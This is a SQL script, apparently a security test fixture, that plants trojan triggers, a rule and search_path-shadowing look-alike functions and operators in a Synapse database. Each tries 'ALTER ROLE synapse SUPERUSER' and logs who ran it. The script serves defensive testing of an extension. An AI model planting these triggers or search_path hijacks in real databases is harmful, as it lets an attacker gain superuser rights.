-- Run as Synapse's role (owner of the database, its public schema and the state
-- tables): everything a compromised homeserver account could plant to run code with
-- the rights of whoever touches its tables.
--
-- 1. Triggers, statement and row level, on the three state tables. Each records who
--    it runs as, then tries to make its owner superuser.
-- 2. A rule on state_groups_state that does the same through a function call.
-- 3. Look-alike functions and operators in a schema put ahead of pg_catalog in the
--    database's search_path. Each records that it was called.

CREATE TABLE public.trigger_log (
    tbl text, level text, op text,
    cur name DEFAULT current_user, sess name DEFAULT session_user,
    escalated boolean
);
CREATE TABLE public.trap_log (what text, cur name DEFAULT current_user, sess name DEFAULT session_user);
GRANT INSERT ON public.trigger_log, public.trap_log TO PUBLIC;

CREATE FUNCTION public.try_escalate() RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
    EXECUTE 'ALTER ROLE synapse SUPERUSER';
    RETURN true;
EXCEPTION WHEN OTHERS THEN
    RETURN false;
END $$;

CREATE FUNCTION public.planted() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    INSERT INTO public.trigger_log (tbl, level, op, escalated)
    VALUES (TG_TABLE_NAME, TG_LEVEL, TG_OP, public.try_escalate());
    RETURN CASE WHEN TG_OP = 'DELETE' THEN OLD ELSE NEW END;
END $$;

DO $$
DECLARE t text;
BEGIN
    FOREACH t IN ARRAY ARRAY['state_groups', 'state_groups_state', 'state_group_edges'] LOOP
        EXECUTE format('CREATE TRIGGER planted_row BEFORE INSERT OR UPDATE OR DELETE ON public.%I '
                       'FOR EACH ROW EXECUTE FUNCTION public.planted()', t);
        EXECUTE format('CREATE TRIGGER planted_stmt AFTER INSERT OR UPDATE OR DELETE OR TRUNCATE ON public.%I '
                       'FOR EACH STATEMENT EXECUTE FUNCTION public.planted()', t);
    END LOOP;
END $$;

CREATE FUNCTION public.rule_hit() RETURNS boolean LANGUAGE sql AS $$
    INSERT INTO public.trigger_log (tbl, level, op, escalated)
    VALUES ('state_groups_state', 'RULE', 'DELETE', public.try_escalate()) RETURNING true
$$;
CREATE RULE planted_rule AS ON DELETE TO public.state_groups_state DO ALSO SELECT public.rule_hit();

-- Look-alikes of what the extension's SQL calls, with the same signatures, so they
-- win over pg_catalog's when earlier in the search_path.
CREATE SCHEMA evil;
CREATE FUNCTION evil.trap(what text) RETURNS void LANGUAGE plpgsql AS $$
BEGIN
    INSERT INTO public.trap_log (what) VALUES (what);
    PERFORM public.try_escalate();
END $$;
CREATE FUNCTION evil.hashtext(text) RETURNS integer LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('hashtext'); RETURN pg_catalog.hashtext($1); END $$;
CREATE FUNCTION evil.now() RETURNS timestamptz LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('now'); RETURN pg_catalog.now(); END $$;
CREATE FUNCTION evil.clock_timestamp() RETURNS timestamptz LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('clock_timestamp'); RETURN pg_catalog.clock_timestamp(); END $$;
CREATE FUNCTION evil.pg_try_advisory_xact_lock(integer, integer) RETURNS boolean LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('pg_try_advisory_xact_lock'); RETURN pg_catalog.pg_try_advisory_xact_lock($1, $2); END $$;
CREATE FUNCTION evil.pg_advisory_xact_lock(integer, integer) RETURNS void LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('pg_advisory_xact_lock'); PERFORM pg_catalog.pg_advisory_xact_lock($1, $2); END $$;
CREATE FUNCTION evil.unnest(bigint[]) RETURNS SETOF bigint LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('unnest'); RETURN QUERY SELECT pg_catalog.unnest($1); END $$;
CREATE FUNCTION evil.set_config(text, text, boolean) RETURNS text LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('set_config'); RETURN pg_catalog.set_config($1, $2, $3); END $$;
CREATE FUNCTION evil.power(double precision, double precision) RETURNS double precision LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('power'); RETURN pg_catalog.power($1, $2); END $$;
CREATE FUNCTION evil.make_interval(years int DEFAULT 0, months int DEFAULT 0, weeks int DEFAULT 0,
        days int DEFAULT 0, hours int DEFAULT 0, mins int DEFAULT 0, secs double precision DEFAULT 0)
    RETURNS interval LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('make_interval'); RETURN pg_catalog.make_interval(years, months, weeks, days, hours, mins, secs); END $$;
CREATE FUNCTION evil.quote_ident(text) RETURNS text LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('quote_ident'); RETURN pg_catalog.quote_ident($1); END $$;
CREATE FUNCTION evil.pg_sleep(double precision) RETURNS void LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('pg_sleep'); END $$;
CREATE FUNCTION evil.pg_backend_pid() RETURNS integer LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('pg_backend_pid'); RETURN pg_catalog.pg_backend_pid(); END $$;

-- Operators: equality and comparison on the types the extension compares.
CREATE FUNCTION evil.text_eq(text, text) RETURNS boolean LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('= text'); RETURN pg_catalog.texteq($1, $2); END $$;
CREATE OPERATOR evil.= (LEFTARG = text, RIGHTARG = text, FUNCTION = evil.text_eq);
CREATE FUNCTION evil.int8_eq(bigint, bigint) RETURNS boolean LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('= bigint'); RETURN pg_catalog.int8eq($1, $2); END $$;
CREATE OPERATOR evil.= (LEFTARG = bigint, RIGHTARG = bigint, FUNCTION = evil.int8_eq);
CREATE FUNCTION evil.int8_gt(bigint, bigint) RETURNS boolean LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('> bigint'); RETURN pg_catalog.int8gt($1, $2); END $$;
CREATE OPERATOR evil.> (LEFTARG = bigint, RIGHTARG = bigint, FUNCTION = evil.int8_gt);
CREATE FUNCTION evil.int8_le(bigint, bigint) RETURNS boolean LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('<= bigint'); RETURN pg_catalog.int8le($1, $2); END $$;
CREATE OPERATOR evil.<= (LEFTARG = bigint, RIGHTARG = bigint, FUNCTION = evil.int8_le);
CREATE FUNCTION evil.int4_ge(integer, integer) RETURNS boolean LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('>= integer'); RETURN pg_catalog.int4ge($1, $2); END $$;
CREATE OPERATOR evil.>= (LEFTARG = integer, RIGHTARG = integer, FUNCTION = evil.int4_ge);
CREATE FUNCTION evil.int4_lt(integer, integer) RETURNS boolean LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('< integer'); RETURN pg_catalog.int4lt($1, $2); END $$;
CREATE OPERATOR evil.< (LEFTARG = integer, RIGHTARG = integer, FUNCTION = evil.int4_lt);
CREATE FUNCTION evil.int8_pl(bigint, bigint) RETURNS bigint LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('+ bigint'); RETURN pg_catalog.int8pl($1, $2); END $$;
CREATE OPERATOR evil.+ (LEFTARG = bigint, RIGHTARG = bigint, FUNCTION = evil.int8_pl);
CREATE FUNCTION evil.int4_pl(integer, integer) RETURNS integer LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.trap('+ integer'); RETURN pg_catalog.int4pl($1, $2); END $$;
CREATE OPERATOR evil.+ (LEFTARG = integer, RIGHTARG = integer, FUNCTION = evil.int4_pl);

ALTER DATABASE sec SET search_path = evil, pg_catalog, public;
